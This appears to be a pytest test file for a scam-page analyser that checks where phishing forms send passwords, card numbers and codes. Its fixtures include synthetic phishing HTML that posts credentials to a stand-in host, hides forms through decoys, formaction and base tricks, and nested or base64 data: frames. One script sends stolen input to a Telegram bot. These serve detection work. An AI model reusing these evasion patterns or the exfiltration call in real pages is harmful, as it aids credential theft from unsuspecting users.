"""What a page asks, and where it sends it, is seen however its author built the form."""

from base64 import b64encode
from html import escape
from urllib.parse import quote

import pytest

from scamtriage.parse.html.document import Document
from scamtriage.parse.html.forms.owners import own_forms
from scamtriage.parse.html.page import read_page
from scamtriage.records.facts import PageFacts
from tests.cost import least_cpu_s
from tests.parse.html.readers import both_readers

PASSWORD = "<input type=password name=p>"


def read(html: str) -> tuple[PageFacts, list[str]]:
    facts, caps = read_page(
        body=html.encode(), content_type="text/html; charset=utf-8", url="https://a.test/d/", host="a.test", suffix="test"
    )
    return facts, [cap.cap for cap in caps]


def senders(facts: PageFacts) -> set[str]:
    """Where the forms that ask for a password send it."""
    return {form.action_host for form in facts.forms if any(field.asks == "password" for field in form.fields)}


@pytest.mark.parametrize("decoys", [39, 40, 41, 250, 1_200])
def test_forms_that_ask_for_nothing_push_none_aside_that_asks(decoys: int) -> None:
    facts, caps = read("<form action=/s><input name=q></form>" * decoys + f'<form action="https://evil.test/s">{PASSWORD}</form>')
    assert (facts.asks, senders(facts), facts.form_count) == (("password",), {"evil.test"}, decoys + 1)
    assert ("forms 40" in caps) is (decoys >= 40)


@pytest.mark.parametrize("decoy", ["<input type=hidden name=h>", "<input name=q>"])
@pytest.mark.parametrize("decoys", [59, 60, 61, 401, 1_500])
def test_inputs_that_ask_for_nothing_push_none_aside_that_asks(decoys: int, decoy: str) -> None:
    facts, caps = read(f'<form action="https://evil.test/s">{decoy * decoys}{PASSWORD}</form>')
    assert (facts.asks, senders(facts)) == (("password",), {"evil.test"})
    assert [field.asks for field in facts.forms[0].fields] == [""] * 59 + ["password"]
    assert ("fields of a form 60" in caps) is (decoys >= 60)


def test_what_is_kept_stays_in_the_order_of_the_page() -> None:
    facts, caps = read(
        "".join(f"<form action=/{n}><input type={'password' if n % 9 == 8 else 'text'} name=n{n}></form>" for n in range(60))
    )
    numbers = [int(form.action.rpartition("/")[2]) for form in facts.forms]
    assert numbers == sorted(numbers)
    assert {8, 17, 26, 35, 44, 53} <= set(numbers)
    assert caps == ["forms 40"]


def test_forms_that_ask_the_same_of_one_receiver_push_no_other_receiver_aside() -> None:
    facts, _ = read(f"<form action=/s>{PASSWORD}</form>" * 50 + f'<form action="https://evil.test/s">{PASSWORD}</form>')
    assert senders(facts) == {"a.test", "evil.test"}


EVIL = 'action="https://evil.test/s"'
OWNED = {
    "a form in a table": f"<table><form {EVIL}><tr><td>{PASSWORD}</td></tr></form></table>",
    "a form between rows": f"<table><tr><form {EVIL}><td>user</td><td>{PASSWORD}</td></form></tr></table>",
    "a form that ends with its block": f"<div><form {EVIL}></div>{PASSWORD}</form>",
    "some inputs within and one behind": f"<div><form {EVIL}><input name=q></div>{PASSWORD}</form>",
    "an input that names its form": f"<form id=f {EVIL}></form>{PASSWORD.replace('<input', '<input form=f')}",
    "an input before the form that it names": f"{PASSWORD.replace('<input', '<input form=f')}<form id=f {EVIL}></form>",
    "an input within one form that names another": (
        f"<form action=/search><input form=f type=password></form><form id=f {EVIL}><input name=q></form>"
    ),
    "a form within a form is none": f"<form {EVIL}><form action=/own>{PASSWORD}</form>",
    "an end tag that nobody sees": f"<div><form {EVIL}></div><noscript></form></noscript>{PASSWORD}</form>",
    "an end tag in a template": f"<div><form {EVIL}></div><template></form></template>{PASSWORD}</form>",
    "an end tag in a value": f"<div><form {EVIL}></div><a title='</form>'>x</a>{PASSWORD}</form>",
    "an end tag in a comment": f"<div><form {EVIL}></div><!-- </form> -->{PASSWORD}</form>",
    "a button that sends elsewhere": f"<form action=/own>{PASSWORD}<button formaction='https://evil.test/s'>Go</button></form>",
    "a submit that sends elsewhere": f"<form>{PASSWORD}<input type=submit formaction='https://evil.test/s'></form>",
    "an image that sends elsewhere": f"<form>{PASSWORD}<input type=image formaction='https://evil.test/s'></form>",
    "a button far away": f"<form id=f>{PASSWORD}</form><button form=f formaction='https://evil.test/s'>Go</button>",
}


@both_readers
@pytest.mark.parametrize("page", OWNED)
def test_an_input_belongs_to_the_form_that_a_browser_sends_it_with(page: str, flood: str) -> None:
    facts, _ = read(OWNED[page] + flood)
    assert "evil.test" in senders(facts)
    assert facts.asks == ("password",)


LOOSE = {
    "after a form": f"<form {EVIL}><input name=q></form>{PASSWORD}",
    "after a form that ended early": f"<div><form {EVIL}></div></form>{PASSWORD}",
    "a name that no form has": f"<form {EVIL}><input name=q></form>{PASSWORD.replace('<input', '<input form=g')}",
    "in a template of its own": f"<div><form {EVIL}></div><template>{PASSWORD}</template></form>",
    "a button that sends nothing": f"<form action=/own>{PASSWORD}<button type=button formaction='https://evil.test/s'>x</button></form>",
    "a button of no form": f"<form action=/own>{PASSWORD}</form><button formaction='https://evil.test/s'>x</button>",
    "a field with formaction": "<form action=/own><input type=password formaction='https://evil.test/s'></form>",
}


@both_readers
@pytest.mark.parametrize("page", LOOSE)
def test_an_input_that_no_form_sends_is_sent_by_none(page: str, flood: str) -> None:
    facts, _ = read(LOOSE[page] + flood)
    assert "evil.test" not in senders(facts)
    assert facts.asks == ("password",)


def test_an_input_in_an_element_that_outlives_the_end_of_its_form_is_the_forms() -> None:
    facts, _ = read(f"<input name=x><form {EVIL}><div></form>{PASSWORD}</div>")
    assert senders(facts) == {"evil.test"}


def test_an_input_of_a_form_that_stands_in_a_broken_one_is_not_sent_by_that() -> None:
    facts, _ = read(f"<form action='https://a.test/'><div></form><form action='https://evil.test/'><input name=q>{PASSWORD}</form></div>")
    assert [len(form.fields) for form in facts.forms] == [0, 2] and senders(facts) == {"evil.test"}


def test_labels_are_read_where_inputs_are_scattered() -> None:
    facts, _ = read(
        f"<table><form {EVIL}><tr><td><label for=a>One-time <b>code</b></label><input id=a><label>PIN <input id=b></label></form>"
    )
    assert [(field.asks, field.label) for field in facts.forms[0].fields] == [("otp", "One-time code"), ("pin", "PIN")]


def test_forms_and_inputs_beyond_every_limit_are_told() -> None:
    assert "fields 1000" in read("<input name=q>" * 1_001 + "<input type=hidden>")[1]
    assert "forms 1000" in read("<form></form>" * 1_001)[1]
    assert read("<input name=q>" * 1_000)[1] == ["loose fields 60"]
    assert read("<input name=q>" * 60)[1] == []


BANK = '<base href="https://bank.test/">'


@both_readers
@pytest.mark.parametrize(
    ("bases", "host"),
    [
        (BANK, "bank.test"),
        (f"<noscript>{BANK}</noscript>", "a.test"),
        (f"<head><noscript><link rel=x>{BANK}</noscript></head>", "a.test"),
        (f"<body><div><noscript><p>{BANK}</noscript>", "a.test"),
        (f"<div><noscript></div>{BANK}</noscript>", "a.test"),
        (f"<template>{BANK}</template>", "a.test"),
        (f"<template></noscript>{BANK}</template>", "a.test"),
        (f"<template><template></template>{BANK}</template>", "a.test"),
        (f"<div><template shadowrootmode=open>{BANK}</template></div>", "a.test"),
        (f"<!-- {BANK} --><script>'{BANK}'</script>", "a.test"),
        (f"<noscript>x</noscript>{BANK}", "bank.test"),
        (f"<noscript><noscript></noscript>{BANK}", "bank.test"),
        (f"<noscript><base href=//other.test></noscript>{BANK}<base href=//third.test>", "bank.test"),
        (f"<base target=_top>{BANK}", "bank.test"),
    ],
)
def test_a_base_that_browsers_with_scripts_do_not_read_moves_no_form(bases: str, host: str, flood: str) -> None:
    facts, _ = read(f"{bases}<form action=/login>{PASSWORD}</form>{flood}")
    assert senders(facts) == {host}


@both_readers
def test_a_page_that_is_written_into_a_frame_is_part_of_the_page(flood: str) -> None:
    inner = (
        "<h1>Sign in</h1><p>Call 02-123-4567</p><form action=//evil.test/s><input type=password></form>"
        "<a href='https://line.me/ti/p/~helper99'>LINE</a>"
    ).replace("'", "&#39;")
    facts, _ = read(f"<p>outside</p><iframe srcdoc='{inner}'></iframe>{flood}")
    assert facts.text.split("\n")[:3] == ["outside", "Sign in", "Call 02-123-4567"]
    assert (facts.asks, senders(facts), facts.headings) == (("password",), {"evil.test"}, ("Sign in",))
    assert (facts.form_count, facts.link_count, facts.foreign_hosts) == (1, 1, ("line.me",))
    assert "line" in {contact.kind for contact in facts.contacts}


@pytest.mark.parametrize("how", ["hidden", "style=display:none", "width=0"])
def test_a_hidden_frame_shows_nothing(how: str) -> None:
    facts, _ = read(f"<p>outside</p><iframe {how} srcdoc='<p>inside</p>'></iframe>")
    assert (facts.text, facts.hidden_text) == ("outside", "inside")


def test_the_base_of_a_frame_is_its_own() -> None:
    frame = f"<base href=//bank.test/><form action=go>{PASSWORD}</form><a href=x>x</a>"
    facts, _ = read(f"<form action=own>{PASSWORD}</form><iframe srcdoc='{frame}'></iframe>")
    assert {form.action for form in facts.forms} == {"https://a.test/d/own", "https://bank.test/go"}
    assert facts.foreign_hosts == ("bank.test",)


def quoted(html: str, how: str = "<iframe srcdoc='{}'></iframe>") -> str:
    return how.format(html.replace("&", "&amp;").replace("'", "&#39;"))


WITHIN = f"<p>Sign in</p><form action=//evil.test/s>{PASSWORD}</form><p>LINE ID: @helper99x</p>"
ENCODED = b64encode(WITHIN.encode()).decode()
CARRIERS = {
    "srcdoc in srcdoc": quoted(quoted(quoted(WITHIN))),
    "plain": quoted(f"data:text/html,{WITHIN}", "<iframe src='{}'></iframe>"),
    "escaped": f"<iframe src='data:text/html;charset=utf-8,{quote(WITHIN)}'></iframe>",
    "base64": f"<iframe src=' data:text/html;base64,{ENCODED[:9]} {ENCODED[9:]}'></iframe>",
    "utf-16": f"<iframe src='data:text/html;charset=utf-16le;base64,{b64encode(WITHIN.encode('utf-16-le')).decode()}'></iframe>",
    "xhtml": f"<iframe src='DATA:application/xhtml+xml;base64,{ENCODED}#x'></iframe>",
    "object": f"<object data='data:text/html;base64,{ENCODED}'></object>",
    "embed": f"<embed src='data:text/html;base64,{ENCODED}'>",
    "among decoys": "".join(quoted(f"<p>{n}") for n in range(30)) + quoted(WITHIN),
}  # fmt: skip


@both_readers
def test_a_document_that_a_page_carries_anywhere_is_part_of_it(flood: str) -> None:
    for how, carrier in CARRIERS.items():
        facts, _ = read(f"<p>outside</p>{carrier}{flood}")
        assert (facts.asks, senders(facts)) == (("password",), {"evil.test"}), how
        assert ("line", "@helper99x") in {(contact.kind, contact.value) for contact in facts.contacts}, how
        assert not facts.iframes and facts.structural_caps == (), how


def test_what_a_frame_hides_in_its_code_is_found_as_on_the_page_itself() -> None:
    bot = f"<script>fetch('https://api.telegram.org/bot1234567:{'A' * 35}/sendMessage')</script>"
    inner = f"<b onclick=\"location='https://wa.me/66819234567'\">x</b>{bot}"
    facts, _ = read(f"<iframe src='data:text/html;base64,{b64encode(inner.encode()).decode()}'></iframe>")
    assert facts.exfil and [contact.kind for contact in facts.contacts] == ["whatsapp"]


def test_frames_that_are_not_read_are_told_and_so_deep_no_honest_page_goes() -> None:
    facts, caps = read("".join(quoted(f"<p>{number}") for number in range(21)))
    assert "frames within 20" in caps and not facts.complete and facts.structural_caps == ()
    facts, caps = read("".join(quoted(quoted(quoted(f"<p>{number}"))) for number in range(9)))
    assert "frames within 20" in caps and not facts.complete and facts.structural_caps == ("frames",)
    assert read(f"<iframe hidden srcdoc='{escape(quoted('<p>inside'))}'></iframe>")[0].text == ""


@pytest.mark.parametrize("completes", ["cc-number ", "section-a billing cc-number", "cc-number webauthn", "\tcc-number\n"])
def test_the_last_word_but_that_of_keys_says_what_a_browser_completes(completes: str) -> None:
    assert read(f"<input name=a autocomplete='{completes}'>")[0].asks == ("card",)


@both_readers
def test_a_label_around_an_input_may_say_behind_it_what_it_is_for(flood: str) -> None:
    assert read(f"<form action=/s><label><input name=a> Card number</label></form><input name=q>{flood}")[0].asks == ("card",)


@both_readers
def test_words_on_both_sides_of_an_input_are_not_one(flood: str) -> None:
    assert read(f"<form action=/s><label>OTP<br><input name=a><br>Required</label></form><input name=q>{flood}")[0].asks == ("otp",)


def test_a_label_around_many_inputs_is_written_out_once() -> None:
    html = f"<label>{('<i>' + '&amp;' * 200) * 40}{'<input name=a>' * 900}"
    assert least_cpu_s(lambda: own_forms(html, Document()), within=0.5) <= 0.5


@both_readers
def test_a_label_that_names_no_input_is_none_of_all_without_an_id(flood: str) -> None:
    facts = read(f"<form action=/s><input name=a><label for=''>Card number</label><p>x</p></form>{flood}")[0]
    assert facts.asks == ()


def test_inputs_outside_forms_are_told_with_what_describes_them() -> None:
    """Kits of keypads and codes have no form: a script sends what is typed."""
    facts, caps = read(
        '<input id=t placeholder="No. Telegram"><input type=password id=w><button onclick=s()>OK</button><form><input name=q></form>'
    )
    assert [(field.name, field.label, field.asks) for field in facts.loose_fields] == [("t", "No. Telegram", ""), ("w", "", "password")]
    assert (len(facts.forms), caps) == (1, [])


@pytest.mark.parametrize("decoys", [59, 60, 61])
def test_of_inputs_outside_forms_those_that_ask_are_kept(decoys: int) -> None:
    facts, caps = read("<input name=x>" * decoys + PASSWORD)
    assert facts.loose_fields[-1].asks == "password" and len(facts.loose_fields) == min(decoys + 1, 60)
    assert (caps == ["loose fields 60"]) is (decoys >= 60)


@pytest.mark.parametrize(
    ("box", "asks"),
    [
        ('<input placeholder="0000 0000 0000 0000">', ("card",)),
        ('<input placeholder="•••• •••• •••• ••••">', ("card",)),
        ('<input placeholder="XXX-XX-XXXX">', ("id-number",)),
        ('<input placeholder="000.000.000-00">', ("id-number",)),
        ('<input placeholder="0-0000-00000-00-0">', ("id-number",)),
        ('<input placeholder="XXXX-XXXX-XXXX-XXXX">', ()),  # a voucher's code, a program's key
        ('<input placeholder="DE00 0000 0000 0000 0000 00">', ()),
        ('<input placeholder="000-0000-0000">', ()),  # a telephone
        ('<input placeholder="00/00/0000">', ()),
        ('<label>Order number <input placeholder="0000 0000 0000 0000"></label>', ()),
        ('<label>Membership card <input placeholder="0000 0000 0000 0000"></label>', ()),
        ('<label>Serial number <input placeholder="000-00-0000"></label>', ()),
        ('<p>Bank account</p><input placeholder="0000 0000 0000 0000">', ("bank-account",)),  # words beside it say more than its digits
        ("<label>SIM-Kartennummer <input></label>", ()),
    ],
)
def test_the_digits_in_a_box_that_no_word_names_say_what_is_typed(box: str, asks: tuple[str, ...]) -> None:
    assert read_page(body=f"<title>A</title><form>{box}</form>".encode(), content_type="text/html", url="https://a.test/", host="a.test",
                     suffix="test")[0].asks == asks  # fmt: skip


@pytest.mark.parametrize(
    ("label", "asks"),
    [
        ("Message. Please do not include credit card numbers", ()),
        ("Do not send card details or passwords here", ()),
        ("Mô tả tình huống, chưa cần gửi CCCD hay mã số thuế", ()),
        ("Kể vắn tắt. Đừng ghi số tài khoản, CCCD hay mật khẩu", ()),
        ("Pesan anda, jangan tulis nomor kartu atau PIN", ()),
        ("รายละเอียด ห้ามใส่เลขบัตรประชาชน", ()),
        ("请勿填写信用卡号", ()),
        ("Enter your PIN. Do not share it with anyone", ("pin",)),
        ("Do not panic, enter your card number", ("card",)),
        ("Never enter it elsewhere: enter your card number", ("card",)),
        ("Do not enter spaces in your card number", ("card",)),
        ("กรอกรหัส PIN ห้ามบอกใคร", ("pin",)),
    ],
)
@pytest.mark.parametrize("box", ["<textarea id=a name=msg></textarea>", "<input id=a name=msg>"])
def test_what_a_label_says_is_not_to_be_written_is_not_asked_for(label: str, asks: tuple[str, ...], box: str) -> None:
    assert read(f"<form action=/s><label for=a>{label}</label>{box}</form>")[0].asks == asks
